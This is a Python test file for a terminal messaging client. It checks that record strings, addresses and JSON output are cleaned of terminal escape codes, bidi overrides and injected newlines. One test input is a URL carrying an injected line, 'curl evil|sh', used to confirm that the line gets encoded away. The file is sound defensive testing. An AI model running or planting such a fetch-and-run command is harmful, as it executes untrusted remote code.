"""Every string of every record is cleaned, by the types of its fields: a new field is covered by itself."""

from __future__ import annotations

import json
from itertools import cycle
from typing import Any

import msgspec
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from msgspec import Struct

from commtui.config import settings as config
from commtui.model import abilities, content, incoming, log_records, records
from commtui.model.cleaning import NotText, clean_value, cleaned
from commtui.model.strings import Text
from commtui.model.text import clean, in_json, one_line, plain_address, plain_id, shown
from commtui.networks import base
from tests.nasty import NASTY, filled, nasty_text, raw, strings_in, structs_of

MODULES = (records, content, log_records, incoming, abilities, base, config)
# a login's fields are functions and what the config says
KINDS = [kind for kind in structs_of(*MODULES) if kind is not base.Login]
MANY_LINES = {"text", "alt"}


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.__name__)
@given(texts=st.lists(nasty_text(), min_size=1, max_size=3))
@settings(max_examples=20)
def test_no_string_of_a_record_can_act_on_a_terminal(kind: type[Struct], texts: list[str]) -> None:
    following = cycle(texts)
    record = filled(kind, lambda: next(following))
    clean_one = cleaned(record)
    assert not [text for text in strings_in(clean_one) if raw(text)]
    assert cleaned(clean_one) is clean_one
    msgspec.json.encode(clean_one, enc_hook=str)


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.__name__)
def test_only_texts_have_several_lines(kind: type[Struct]) -> None:
    for bad in NASTY:
        record = cleaned(filled(kind, cycle([bad]).__next__))
        for name in kind.__struct_fields__:
            value = getattr(record, name)
            if isinstance(value, str) and name not in MANY_LINES:
                assert "\n" not in value, name


def test_a_clean_record_is_the_same_object() -> None:
    record = filled(records.Outgoing, lambda: "plain")
    assert cleaned(record) is record
    with_words = msgspec.structs.replace(record, text="Grüße 👩‍👩‍👧\n\nmy\u200cword می‌خواهم".replace("my\u200c", ""))
    assert cleaned(with_words) is with_words


def test_ids_that_differ_stay_different() -> None:
    plain = [plain_id(given) for given in ("10", "10\x1b[m", "10\n", "1\u200b0", "10\u200e", "10\xa0", "10 ", "10\x00")]
    assert len(set(plain)) == len(plain)
    assert plain_id("@ali\u200bce@example.com") == "@ali%E2%80%8Bce@example.com"


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("https://x.example/a?b=c&d=[1]#e", "https://x.example/a?b=c&d=[1]#e"),
        ("https://x.example/\ncurl evil|sh\n", "https://x.example/%0Acurl%20evil%7Csh%0A"),
        ("https://x.example/\x1b[31m\u202e", "https://x.example/%1B[31m%E2%80%AE"),
        ("https://x.example/\ud800", "https://x.example/%EF%BF%BD"),
        ("https://x.example/über/👩‍💻", "https://x.example/über/👩‍💻"),
        ('https://x.example/"><`{}\\^', "https://x.example/%22%3E%3C%60%7B%7D%5C%5E"),
    ],
)
def test_an_address_stays_on_its_line(address: str, expected: str) -> None:
    assert plain_address(address) == expected == plain_address(expected)


@given(nasty_text())
@example("a\tb\nc 👩‍💻 \x1b[m \u202e")
def test_the_gate_of_output_shows_what_would_act_and_leaves_the_rest(text: str) -> None:
    seen = shown(text)
    assert not raw(seen) and shown(seen) == seen
    assert shown(clean(text)) == clean(text)
    assert seen.count("\n") == text.count("\n")


@given(nasty_text(), nasty_text())
def test_json_behind_the_gate_says_the_same(key: str, value: str) -> None:
    written = json.dumps({key: [value, {"x": value}]}, ensure_ascii=False)
    seen = in_json(written)
    assert json.loads(seen) == json.loads(written)
    assert not raw(seen)


@given(nasty_text())
def test_a_cleaned_line_is_one_line(text: str) -> None:
    line = cleaned(filled(records.Note, lambda: text)).who
    assert line == one_line(clean(text)) and line == one_line(clean(line))


def test_what_is_no_text_is_refused() -> None:
    class Odd(Struct, frozen=True):
        text: Text
        others: tuple[str, ...] = ()

    for odd in (Odd(5), Odd(None), Odd("x", (b"bytes",))):  # type: ignore[arg-type]
        with pytest.raises(NotText):
            cleaned(odd)


def test_a_type_of_which_nobody_knows_how_it_is_cleaned_is_refused() -> None:
    class Forgotten(Struct, frozen=True):
        values: set[str]

    with pytest.raises(TypeError, match=r"model/cleaning\.py"):
        cleaned(Forgotten({"x"}))


def test_values_of_any_type_are_cleaned_to_the_bottom() -> None:
    value: dict[str, Any] = {"a\x1b[m": ["\x1b[31m", {"b": ("\u202e", 5, None, True)}]}
    assert not [text for text in strings_in(clean_value(value)) if raw(text)]
    assert clean_value(plain := {"a": [1, "b"]}) is plain
